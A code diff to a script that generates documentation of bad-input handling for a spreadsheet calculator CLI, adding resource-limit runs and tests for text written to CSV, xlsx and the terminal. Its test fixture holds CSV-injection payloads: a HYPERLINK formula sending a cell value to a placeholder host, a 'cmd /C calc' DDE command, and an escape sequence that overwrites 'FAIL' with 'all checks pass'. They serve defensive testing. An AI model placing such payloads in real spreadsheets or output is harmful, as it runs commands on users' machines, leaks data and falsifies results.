@@ -1,7 +1,8 @@
 """Generate docs/bad-inputs.md by running every case of the bad-input tables.
 
 The tables are tests/bad_inputs.py (BAD_INPUTS, RANGE_BAD_INPUTS,
-CLI_BAD_INPUTS) and HOSTILE_FILES in tests/xlsx/test_hostile.py. Every response in
+CLI_BAD_INPUTS, CLI_TEXT_OUTPUTS) and HOSTILE_FILES and AT_LIMITS in
+tests/xlsx/test_hostile.py. Every response in
 the document is what the code returned when the document was generated; the
 tests named beside each row assert it, and tests/test_bad_input_catalogue.py
 fails when the committed document differs from a fresh run (stale).
@@ -46,9 +47,11 @@ if str(ROOT) not in sys.path:
 from bad_inputs import (  # noqa: E402
     BAD_INPUTS,
     CLI_BAD_INPUTS,
+    CLI_TEXT_OUTPUTS,
     RANGE_BAD_INPUTS,
     BadInput,
     CliBadInput,
+    CliTextOutput,
     RangeBadInput,
 )
 
@@ -61,18 +64,26 @@ __all__ = [
     "catalogue_rows",
     "cli_response",
     "hostile_response",
+    "limit_run",
     "prepare_cli",
     "range_response",
     "render",
     "run_cli",
     "sheet_response",
     "show_value",
+    "text_book",
+    "text_output_run",
 ]
 
 SHEET_TEST = "tests/sheet/test_bad_inputs.py::test_bad_input_gives_its_error"
 RANGE_TEST = "tests/test_bad_input_catalogue.py::test_range_bad_input"
 CLI_TEST = "tests/test_cli.py::test_cli_bad_input_table"
 HOSTILE_TEST = "tests/xlsx/test_hostile.py::test_hostile_file_through_calc"
+LIMIT_TEST = "tests/xlsx/test_hostile.py::test_within_the_limits_through_calc"
+#: A workbook at the limits that has not finished after this long has missed the promise
+#: (twice the promised time, and the time to start Python) and is stopped.
+CHILD_TIMEOUT = 60.0
+TEXT_TEST = "tests/app/test_tables.py::test_text_output_table"
 
 
 class Row(NamedTuple):
@@ -217,22 +228,79 @@ class HostileRun(NamedTuple):
     directory: str
 
 
-def _child_run_hostile() -> None:
-    """Child mode: run the jobs given on stdin, report JSON on the real stdout."""
+def _peak_rss_mib() -> float:
+    """This process's peak resident memory (VmHWM: its own, not the parent's it was forked
+    from, which ru_maxrss would include), in MiB."""
+    try:
+        with open("/proc/self/status", encoding="ascii") as fh:
+            for line in fh:
+                if line.startswith("VmHWM:"):
+                    return int(line.split()[1]) / 1024
+    except OSError:
+        pass
     import resource
 
+    return resource.getrusage(resource.RUSAGE_SELF).ru_maxrss / 1024  # KiB on Linux
+
+
+def _child_run_hostile() -> None:
+    """Child mode: run the jobs given on stdin, report JSON on the real stdout."""
     import udfs.app.calc
-    import udfs.engine.model  # noqa: F401
+    import udfs.engine.model
 
     jobs = json.loads(sys.stdin.read())
     report = []
     for argv in jobs:
+        udfs.engine.model.clear_cache()  # no model of an earlier run held in memory
         t0 = time.perf_counter()
         r = run_cli(argv)
         seconds = time.perf_counter() - t0
-        rss_kib = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss  # KiB on Linux
-        report.append([r.code, r.stdout, r.stderr, seconds, rss_kib / 1024])
+        report.append([r.code, r.stdout, r.stderr, seconds, _peak_rss_mib()])
     print(json.dumps(report))
+
+
+def _run_cases(cases: Sequence[Any], scratch: Path, one_child: bool) -> dict[str, HostileRun]:
+    """Build each case's workbook in ``scratch`` and run ``cellwright calc`` on it in child
+    processes: all in one (its peak memory after run k bounds run k) or one each."""
+    jobs, digests = [], []
+    for k, case in enumerate(cases):
+        d = scratch / f"case{k}"
+        d.mkdir()
+        src = d / "hostile.xlsx"
+        data = case.build()
+        src.write_bytes(data)
+        digests.append(hashlib.sha256(data).hexdigest())
+        del data
+        jobs.append(["calc", str(src), "-o", str(d / "out.xlsx"), *case.flags])
+    env = dict(os.environ, PYTHONPATH=os.pathsep.join([str(ROOT), str(HERE)]))
+    report: list[Any] = []
+    for batch in [jobs] if one_child else [[job] for job in jobs]:
+        try:
+            child = subprocess.run(
+                [sys.executable, __file__, "--run-hostile"],
+                input=json.dumps(batch),
+                capture_output=True,
+                text=True,
+                timeout=900 if one_child else CHILD_TIMEOUT,
+                env=env,
+                check=True,
+            )
+        except subprocess.TimeoutExpired:  # one case past any bound: stopped, reported
+            report.append([-9, "", f"(stopped after {CHILD_TIMEOUT:g} s)", CHILD_TIMEOUT, 0.0])
+            continue
+        report += json.loads(child.stdout.strip().splitlines()[-1])
+    out: dict[str, HostileRun] = {}
+    for k, (case, job, rep) in enumerate(zip(cases, jobs, report, strict=True)):
+        src = Path(job[1])
+        out[case.label] = HostileRun(
+            CliResult(rep[0], rep[1], rep[2]),
+            rep[3],
+            rep[4],
+            hashlib.sha256(src.read_bytes()).hexdigest() == digests[k],
+            (src.parent / "out.xlsx").exists(),
+            str(src.parent),
+        )
+    return out
 
 
 @functools.cache
@@ -245,41 +313,19 @@ def hostile_runs() -> dict[str, HostileRun]:
     """
     from test_hostile import HOSTILE_FILES
 
-    out: dict[str, HostileRun] = {}
     with tempfile.TemporaryDirectory() as scratch:
-        jobs, digests = [], []
-        for k, h in enumerate(HOSTILE_FILES):
-            d = Path(scratch) / f"hostile{k}"
-            d.mkdir()
-            src = d / "hostile.xlsx"
-            data = h.build()
-            src.write_bytes(data)
-            digests.append(hashlib.sha256(data).hexdigest())
-            del data
-            jobs.append(["calc", str(src), "-o", str(d / "out.xlsx"), *h.flags])
-        env = dict(os.environ, PYTHONPATH=os.pathsep.join([str(ROOT), str(HERE)]))
-        child = subprocess.run(
-            [sys.executable, __file__, "--run-hostile"],
-            input=json.dumps(jobs),
-            capture_output=True,
-            text=True,
-            timeout=900,
-            env=env,
-            check=True,
-        )
-        report = json.loads(child.stdout.strip().splitlines()[-1])
-        for k, (h, job, rep) in enumerate(zip(HOSTILE_FILES, jobs, report, strict=True)):
-            d = Path(job[1]).parent
-            src = Path(job[1])
-            out[h.label] = HostileRun(
-                CliResult(rep[0], rep[1], rep[2]),
-                rep[3],
-                rep[4],
-                hashlib.sha256(src.read_bytes()).hexdigest() == digests[k],
-                (d / "out.xlsx").exists(),
-                str(d),
-            )
-    return out
+        return _run_cases(HOSTILE_FILES, Path(scratch), one_child=True)
+
+
+@functools.cache
+def limit_run(label: str) -> HostileRun:
+    """The AT_LIMITS case ``label`` through ``cellwright calc`` in a child process of its
+    own (so its peak is its own), run once per process."""
+    from test_hostile import AT_LIMITS
+
+    (case,) = [a for a in AT_LIMITS if a.label == label]
+    with tempfile.TemporaryDirectory() as scratch:
+        return _run_cases([case], Path(scratch), one_child=False)[label]
 
 
 def build_book(directory: Path) -> Path:
@@ -317,13 +363,111 @@ def prepare_cli(row: CliBadInput, directory: Path) -> list[str]:
     elif row.prepare == "exists":
         target = next(a for a, raw in zip(argv, row.argv, strict=True) if "{out}" in raw)
         Path(target).write_bytes(b"old contents")
+    elif row.prepare == "percent":
+        percent_book(directory / "percent.xlsx")
     elif row.prepare:
         raise ValueError(f"unknown set-up step {row.prepare!r}")
     return argv
 
 
+def percent_book(path: Path) -> Path:
+    """A workbook with one formula of 8,000 percent signs (8,003 characters, under Excel's
+    8,192): valid in Excel, read by neither of our runners."""
+    import openpyxl
+
+    wb = openpyxl.Workbook()
+    ws = wb.active
+    assert ws is not None
+    ws.title = "S"
+    ws["A1"] = 1
+    ws["B1"] = "=A1" + "%" * 8000
+    wb.save(path)
+    return path
+
+
+#: The named formula cells of text_book and the text each computes (A1 = 1).
+TEXT_OUTPUTS = {
+    "link": (
+        '="=HYPERLINK(""http://example.invalid/?x=""&"&A1&",""Click"")"',
+        '=HYPERLINK("http://example.invalid/?x="&1,"Click")',
+    ),
+    "plus": ("=\"+1+cmd|' /C calc'!A\"&A1", "+1+cmd|' /C calc'!A1"),
+    "at": ('="@SUM(1+1)"', "@SUM(1+1)"),
+    "escape": (
+        '=CHAR(1)&"FAIL"&CHAR(27)&"[2K"&CHAR(13)&"all checks pass"',
+        "\x01FAIL\x1b[2K\rall checks pass",
+    ),
+    "number": ("=A1*2", 2.0),
+}
+
+
+def text_book(path: Path) -> Path:
+    """A workbook whose named outputs are text meant to be run by a spreadsheet program
+    (OWASP's examples of CSV injection) or to rewrite the terminal line it is printed on."""
+    import openpyxl
+    from openpyxl.workbook.defined_name import DefinedName
+
+    wb = openpyxl.Workbook()
+    ws = wb.active
+    assert ws is not None
+    ws.title = "S"
+    ws["A1"] = 1
+    for row, (name, (formula, _)) in enumerate(TEXT_OUTPUTS.items(), start=1):
+        ws[f"B{row}"] = formula
+        wb.defined_names[name] = DefinedName(name, attr_text=f"S!$B${row}")
+    wb.save(path)
+    return path
+
+
+def text_output_run(row: CliTextOutput, directory: Path) -> tuple[CliResult, Path, str]:
+    """Run ``row`` in ``directory``: the result, the output file and a description of what
+    the output holds for the outputs of text_book (the catalogue's response)."""
+    from udfs.app.safe_text import show
+
+    book = text_book(directory / "text.xlsx")
+    argv = [a.format(text_book=book, out=directory / "out") for a in row.argv]
+    out = Path(next(a for a, raw in zip(argv, row.argv, strict=True) if "{out}" in raw))
+    result = run_cli(argv)
+    if result.code != 0:
+        return result, out, f"exit {result.code}: " + cli_response(result)
+    names = [n for n in TEXT_OUTPUTS if n != "number"]
+    if out.suffix == ".csv":
+        import csv
+
+        with out.open(encoding="utf-8", newline="") as fh:
+            first = next(iter(csv.DictReader(fh)))
+        held = [f"{n} = {show(first[n], 60)}" for n in names]
+        where = "the CSV holds"
+    else:
+        import openpyxl
+
+        if row.command == "sweep":
+            ws = openpyxl.load_workbook(out)["Sweep"]
+            cells = dict(zip([c.value for c in ws[1]], ws[2], strict=True))
+            held = [f"{n} = {_kind(cells[n].data_type)} {show(cells[n].value, 60)}" for n in names]
+            where = "the xlsx holds"
+        else:
+            lines = [ln for ln in result.stdout.splitlines() if ln.strip().startswith("escape")]
+            held = [show(lines[0].strip(), 80) if lines else "(no line for escape)"]
+            where = "printed"
+    return result, out, f"exit 0; {where}: " + "; ".join(held)
+
+
+def _kind(data_type: str) -> str:
+    return {"s": "text", "n": "number", "f": "FORMULA", "b": "boolean", "e": "error"}.get(
+        data_type, data_type
+    )
+
+
 def _normalise(text: str, directory: Path) -> str:
     return text.replace(str(directory), "<tmp>")
+
+
+def _argv_text(argv: Sequence[str]) -> str:
+    """A command line for the document: every character printable (see safe_text.show)."""
+    from udfs.app.safe_text import show
+
+    return "`" + show(" ".join(argv), 300) + "`"
 
 
 # ---------------------------------------------------------------------- the document
@@ -372,13 +516,27 @@ def catalogue_rows(scratch: Path | None = None) -> list[Row]:
                 Row(
                     "Command line",
                     f"cellwright {c.command}",
-                    "`" + " ".join(c.argv) + "`",
+                    _argv_text(c.argv),
                     c.why,
                     f"exit {result.code}: " + _normalise(cli_response(result), d),
                     f"{CLI_TEST}[{_cli_id(c)}]",
                 )
             )
-    from test_hostile import HOSTILE_FILES
+        for k, t in enumerate(CLI_TEXT_OUTPUTS):
+            d = base / f"text{k}"
+            d.mkdir()
+            result, _, response = text_output_run(t, d)
+            rows.append(
+                Row(
+                    "Workbook text in outputs",
+                    f"cellwright {t.command}",
+                    _argv_text(t.argv),
+                    t.why,
+                    _normalise(response, d),
+                    f"{TEXT_TEST}[{t.why}]",
+                )
+            )
+    from test_hostile import AT_LIMITS, HOSTILE_FILES
 
     runs = hostile_runs()
     for h in HOSTILE_FILES:
@@ -392,6 +550,17 @@ def catalogue_rows(scratch: Path | None = None) -> list[Row]:
                 f"exit {run.result.code}: "
                 + _normalise(hostile_response(run.result, h.fragment), Path(run.directory)),
                 f"{HOSTILE_TEST}[{h.label}]",
+            )
+        )
+    for a in AT_LIMITS:  # what the test named in the row asserts (each run is its own test)
+        rows.append(
+            Row(
+                "Workbooks at the limits (cellwright calc)",
+                "cellwright calc" + "".join(f" {f}" for f in a.flags),
+                a.label,
+                "within the limits",
+                "must finish: exit 0, output written, within the time and memory promised",
+                f"{LIMIT_TEST}[{a.label}]",
             )
         )
     return rows
@@ -434,24 +603,68 @@ def render(rows: Iterable[Row]) -> str:
         "suggestions; an error value arriving from another cell is passed on unchanged.",
         "In a range, a bad element gets its own error and the other elements are computed.",
         "",
-        "## Bounds for hostile workbooks",
+        "## Bounds for hostile workbooks: the promise",
         "",
-        f"Each hostile workbook must be refused or reported within {HOSTILE_SECONDS:g} s by",
-        "`cellwright calc`, and the process running it must stay under",
-        f"{HOSTILE_PEAK_RSS_MIB} MiB of peak resident memory (interpreter, libraries and C",
-        "allocations included); these are safety bounds, asserted by",
-        f"`{HOSTILE_TEST}`, not speed targets. The limits that refuse a file",
-        "(udfs/engine/guard.py) are: file "
+        "Any workbook within the limits below is read, evaluated and written by `cellwright",
+        f"calc` within {HOSTILE_SECONDS:g} s, and the process stays under "
+        f"{HOSTILE_PEAK_RSS_MIB} MiB",
+        "of peak resident memory (interpreter, libraries and C allocations included; measured",
+        "on a shared 2-core machine); past any limit the file is refused with a one-line",
+        "reason before the work that grows with it starts. Both are asserted: the hostile",
+        f"workbooks by `{HOSTILE_TEST}` (all in one child process),",
+        f"workbooks at the limits by `{LIMIT_TEST}` (each in",
+        "a child process of its own). These are safety bounds, not speed targets.",
+        "",
+        "Run out of memory (a cap on the address space, as containers set), `calc` says",
+        "`out of memory` on one line and stops with exit 1, leaving no file behind",
+        "(`tests/xlsx/test_hostile.py::test_out_of_memory_is_one_line_and_the_end`). A known",
+        "gap: with less than about 100 MiB of headroom the C XML parser (libexpat, through",
+        "pyexpat) can stop returning while the first sheet is read (3 of 14 runs at 50 and",
+        "75 MiB); the process then has to be stopped from outside.",
+        "",
+        "The limits (udfs/xlsx/guard.py): file "
         f"{guard.MAX_INPUT_BYTES // 2**20} MiB, {guard.MAX_PARTS:,} zip parts, "
         f"{guard.MAX_PART_BYTES // 2**20} MiB per part and {guard.MAX_TOTAL_BYTES // 2**20} MiB "
-        f"in all unpacked, compression ratio {guard.MAX_RATIO:g}:1 for parts over 1 MiB, "
-        f"{guard.MAX_CELLS:,} cells, {guard.MAX_FORMULA_CELLS:,} formula cells, "
-        f"{guard.MAX_ROWS:,} rows, {guard.MAX_SHARED_STRINGS:,} shared strings, "
+        f"in all unpacked, compression ratio {guard.MAX_RATIO:g}:1 for parts over 1 MiB; "
+        f"{guard.MAX_CELLS:,} cells; {guard.MAX_FORMULA_CELLS:,} formula cells (every cell an "
+        "array formula fills counts; `--max-formulas` raises the limit and, in proportion, "
+        "the cells, rows, formula text and cell reads, and the promise with them); "
+        f"{guard.MAX_FORMULA_TEXT:,} characters of distinct formulas; "
+        f"{guard.MAX_CELL_READS:,} cells read by ranges; "
+        f"{guard.MAX_ROWS:,} rows; {guard.MAX_SHARED_STRINGS:,} shared strings; "
+        f"text cells of {guard.MAX_TEXT_LENGTH:,} characters, "
         f"{guard.MAX_DEFINED_NAMES:,} defined names, formulas of "
         f"{guard.MAX_FORMULA_LENGTH:,} characters and {guard.MAX_NESTING} nested calls "
-        "(Excel's own limits); any DTD or entity declaration is refused; external links and "
-        "macros are reported, never followed or run; circular references are reported and "
-        "not evaluated.",
+        "(Excel's own limits); "
+        f"{guard.MAX_RANGES:,} ranges of each kind listed by merged cells, hyperlinks, data "
+        "validations and conditional formats, and merged or hyperlinked ranges covering "
+        f"{guard.MAX_CELLS:,} cells of each kind; {guard.MAX_STYLES:,} entries in each list of "
+        "the styles part. Every XML part is UTF-8 or UTF-16 with its byte-order mark (the Open "
+        "Packaging Conventions), never declares a DTD or entities; external links and macros "
+        "are reported, never followed or run; circular references are reported and not "
+        "evaluated.",
+        "",
+        "A workbook the plan declines (a circular reference under iterative calculation, a "
+        "formula it does not run) goes to the formulas package's own model, which reads the "
+        "whole file with openpyxl and is about a hundred times slower; it takes a workbook "
+        f"only up to {guard.MAX_FALLBACK_CELLS:,} cell positions from A1 to each sheet's last "
+        "cell (merged and hyperlinked ranges included), "
+        f"{guard.MAX_FALLBACK_FORMULAS:,} formula cells, {guard.MAX_FALLBACK_RANGES:,} merged, "
+        "hyperlinked, validated and conditionally formatted ranges in all and "
+        f"{guard.MAX_FALLBACK_XML_BYTES // 2**20} MiB of XML, and refuses a larger one "
+        "before openpyxl reads it.",
+        "",
+        "## Text that leaves cellwright",
+        "",
+        "Workbook text is data (udfs/app/safe_text.py). In CSV tables (RFC 4180) a text field",
+        "starting with `=`, `+`, `-`, `@`, a tab or a carriage return gets a leading `'` (the",
+        "usual neutralising of CSV injection); numbers stay numbers. In .xlsx tables every text",
+        "cell is stored as text, never as a formula, with characters XML cannot hold written",
+        "`_xHHHH_` as Excel writes them. Column headers are names (1 to 255 characters, no",
+        "control characters); defined names that are not valid names are ignored, with a note.",
+        "On the terminal, control characters, Unicode format and bidirectional controls and",
+        "undecodable bytes in workbook text are shown escaped (`\\x1b`), and messages are one",
+        "line, bounded in length. Command-line text that is not UTF-8 is refused.",
         "",
     ]
     for title, items in sections.items():
